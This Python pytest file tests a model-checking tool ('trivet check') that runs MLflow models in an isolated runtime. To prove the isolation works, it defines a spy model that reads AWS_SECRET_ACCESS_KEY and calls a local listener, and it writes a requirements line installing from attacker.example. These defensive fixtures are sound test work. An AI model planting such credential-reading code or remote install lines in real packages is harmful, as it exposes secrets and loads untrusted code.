"""``trivet check``: real models in the stack's runtime, beside the environments that they ask for."""

from __future__ import annotations

import json
import shutil
import signal
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest
from commandline import PROGRAM, call, environment
from integration_servers import in_trainer, tracking_server

from trivet.host.isolation import without_network
from trivet.host.journal import MARK, runs_directory
from trivet.model.outcome import Outcome
from trivet.model.report import ConformanceReport
from trivet.render import report_json
from trivet.stacks.read import load_stack

pytestmark = pytest.mark.processes

SAVE_MODELS = """
import os, socket
import mlflow
import numpy as np
import pandas as pd
from mlflow.models import infer_signature
from sklearn.ensemble import GradientBoostingClassifier
from sklearn.linear_model import LogisticRegression

class Spy(mlflow.pyfunc.PythonModel):
    def load_context(self, context):
        import os, socket
        self.seen = os.environ.get("AWS_SECRET_ACCESS_KEY", "nothing")
        try:
            socket.create_connection(("127.0.0.1", int(open(context.artifacts["port"]).read())), 5).close()
        except OSError:
            pass

    def predict(self, context, model_input, params=None):
        return [self.seen] * len(model_input)

x = pd.DataFrame(np.random.default_rng(0).random((200, 3)), columns=list("abc"))
y = [0, 1] * 100
for name, model in {"linear": LogisticRegression(), "boosting": GradientBoostingClassifier(n_estimators=5)}.items():
    model.fit(x, y)
    signature = infer_signature(x, model.predict(x))
    mlflow.sklearn.save_model(model, name, signature=signature, input_example=x.head(2), serialization_format="cloudpickle")
open("port", "w").write(os.environ["PORT"])
mlflow.pyfunc.save_model("spy", python_model=Spy(), artifacts={"port": "port"}, signature=infer_signature(x, ["text"]),
                         input_example=x.head(2), pip_requirements=["mlflow==" + mlflow.__version__])
with mlflow.start_run() as run:
    mlflow.log_artifacts("linear", "model")
client = mlflow.MlflowClient()
client.create_registered_model("linear")
client.create_model_version("linear", run.info.artifact_uri + "/model", run.info.run_id)
x["d"] = 0.5
model = LogisticRegression().fit(x, y)
with mlflow.start_run() as run:
    mlflow.sklearn.log_model(model, "model", registered_model_name="linear", signature=infer_signature(x, model.predict(x)))
"""


@pytest.fixture(scope="module")
def listener() -> Iterator[socket.socket]:
    """What the spy tries to reach."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.setblocking(False)
        yield listening


@pytest.fixture(scope="module")
def saved(tmp_path_factory: pytest.TempPathFactory, listener: socket.socket) -> Iterator[tuple[Path, str]]:
    """The folder of models that the trainer of ``current`` saved, and a server on which one of them is registered."""
    folder = tmp_path_factory.mktemp("check")
    stack = load_stack("current")
    with tracking_server(stack, folder / "server", "--artifacts-destination", str(folder / "store")) as uri:
        in_trainer(stack, SAVE_MODELS, folder, MLFLOW_TRACKING_URI=uri, PORT=str(listener.getsockname()[1]))
        yield folder, uri


def check(model: Any, folder: Path, *arguments: str) -> tuple[int, ConformanceReport]:
    called = call("check", model, "--report", folder, *arguments)
    assert (folder / "report.json").is_file(), called.out + called.err
    return called.code, report_json.read((folder / "report.json").read_text(encoding="utf-8"))


def outcomes(report: ConformanceReport) -> dict[str, Outcome]:
    return {result.id: result.outcome for result in report.contracts}


COMPARED = "serving.predictions_equal_the_trainers"


def test_a_model_that_fits_answers_as_in_its_own_environment(saved: tuple[Path, str], tmp_path: Path) -> None:
    code, report = check("models:/linear/1", tmp_path, "--stack", "2024.11-fixed", "--mlflow", saved[1])
    assert code == 0
    assert outcomes(report)[COMPARED] is Outcome.PASSED
    (result,) = (one for one in report.contracts if one.id == COMPARED)
    assert "generated from the signature are equal" in result.findings[0].message
    assert report.handover["environment of the model"].startswith("Python 3.11, ")
    assert report.documents["model/model.lock"].count("--hash=") > 50


def test_a_model_that_is_named_by_a_relative_path_is_found_by_every_process(
    saved: tuple[Path, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(saved[0])
    reads = "signatures.runtime_reads_the_signature"
    code, report = check("linear", tmp_path, "--stack", "2024.11-fixed", "--contract", COMPARED, "--contract", reads)
    assert code == 0
    assert outcomes(report) == {COMPARED: Outcome.PASSED, reads: Outcome.PASSED}


def test_a_registered_version_is_compared_with_the_one_before_it(saved: tuple[Path, str], tmp_path: Path) -> None:
    contract = "signatures.version_keeps_its_clients"
    code, report = check(
        "models:/linear/2", tmp_path, "--stack", "2024.11-fixed", "--mlflow", saved[1], "--contract", contract
    )
    (result,) = report.contracts
    assert (code, result.outcome) == (2, Outcome.FAILED), "advice alone makes no conformant model"
    assert result.findings[0].message == (
        "against models:/linear/1: column 'd' is required, and clients of the current version do not send it"
    )


def test_a_model_that_the_runtime_cannot_load_fails_for_the_reason_that_its_files_show(
    saved: tuple[Path, str], tmp_path: Path
) -> None:
    code, report = check(saved[0] / "boosting", tmp_path, "--stack", "2024.11")
    assert code == 1
    found = outcomes(report)
    assert found["environment.dependencies_fit_the_runtime"] is Outcome.FAILED
    assert found["serving.model_becomes_ready"] is Outcome.FAILED
    assert found["signatures.input_example_satisfies_the_signature"] is Outcome.PASSED


def test_a_model_gets_neither_credentials_nor_a_network(
    saved: tuple[Path, str], tmp_path: Path, listener: socket.socket, monkeypatch: pytest.MonkeyPatch
) -> None:
    if not without_network():
        pytest.skip("this user may not create a network namespace")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI")
    _, report = check(saved[0] / "spy", tmp_path, "--stack", "2024.11-fixed")
    with pytest.raises(BlockingIOError):
        listener.accept()
    answers = [item.text for one in report.contracts for finding in one.findings for item in finding.evidence]
    assert any("nothing" in text for text in answers)
    assert not any("wJalrXUtnFEMI" in text for text in answers)


def test_the_spy_reaches_its_listener_where_it_has_a_network(
    saved: tuple[Path, str], tmp_path: Path, listener: socket.socket
) -> None:
    contracts = ("--contract", "signatures.input_example_satisfies_the_signature")
    check(saved[0] / "spy", tmp_path, "--stack", "2024.11-fixed", "--network", *contracts)
    listener.accept()[0].close()


def test_requirements_that_are_no_packages_are_not_installed_and_make_it_inconclusive(
    saved: tuple[Path, str], tmp_path: Path
) -> None:
    hostile = shutil.copytree(saved[0] / "linear", tmp_path / "hostile")
    (hostile / "requirements.txt").write_text("mlflow==3.17.2\n-e git+https://attacker.example/x\n")
    contracts = ("--contract", COMPARED, "--contract", "serving.model_becomes_ready")
    code, report = check(hostile, tmp_path / "report", "--stack", "2024.11-fixed", *contracts)
    assert code == 2
    (result,) = (one for one in report.contracts if one.id == COMPARED)
    assert "requirements.txt:2: '-e git+https://attacker.example/x' is not a package" in result.reason
    assert outcomes(report)["serving.model_becomes_ready"] is Outcome.PASSED


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (("nowhere",), "nowhere/MLmodel does not exist"),
        (("models:/linear/1",), "no tracking server is named"),
        (("models:/linear/9", "--mlflow"), "linear"),
        (("runs:/0123456789abcdef0123456789abcdef/model", "--mlflow"), "0123456789abcdef0123456789abcdef"),
    ],
)
def test_a_model_that_is_not_there_is_named(
    saved: tuple[Path, str], arguments: tuple[str, ...], words: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    called = call("check", *arguments, *([saved[1]] if "--mlflow" in arguments else []))
    assert called.code in (2, 3)
    assert words in called.err
    assert "remedy" in called.err or "HTTP 404" in called.err


def test_a_registered_version_beyond_the_limit_is_not_downloaded(saved: tuple[Path, str]) -> None:
    folder, uri = saved
    model = json.dumps({"padding": "x" * 2**20})
    run = next((folder / "store").glob("*/*/artifacts/model"))
    (run / "large.json").write_text(model)
    try:
        called = call("check", "models:/linear/1", "--mlflow", uri, "--max-size", "1")
    finally:
        (run / "large.json").unlink()
    assert called.code == 3
    assert "pass --max-size 2" in called.err


@pytest.mark.usefixtures("default_signals")
@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGTERM], ids=lambda one: one.name)
def test_a_killed_check_leaves_nothing_after_the_next_one_which_judges_the_model_whole(
    saved: tuple[Path, str], tmp_path: Path, number: signal.Signals
) -> None:
    contracts = ("--contract", COMPARED, "--contract", "serving.model_becomes_ready")
    asked = ("check", saved[0] / "linear", "--stack", "2024.11-fixed", *contracts)
    first = subprocess.Popen(
        [str(PROGRAM), *map(str, asked)], env=environment(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    deadline = time.monotonic() + 300
    while not any("mlserver" in " ".join(one.info["cmdline"] or ()) for one in of_run(first.pid)):
        assert time.monotonic() < deadline
        time.sleep(0.1)
    first.send_signal(number)
    assert first.wait(60) in (-signal.SIGKILL, 128 + number)
    code, report = check(saved[0] / "linear", tmp_path, "--stack", "2024.11-fixed", *contracts)
    assert code == 0
    assert set(outcomes(report).values()) == {Outcome.PASSED}
    assert of_run(first.pid) == []
    assert list(runs_directory().glob(f"*-{first.pid}-*")) == []


def of_run(owner: int) -> list[psutil.Process]:
    """The processes of the run whose process has, or had, this pid."""
    found = psutil.process_iter(["cmdline", "environ"])
    return [one for one in found if f"-{owner}-" in (one.info["environ"] or {}).get(MARK, "")]
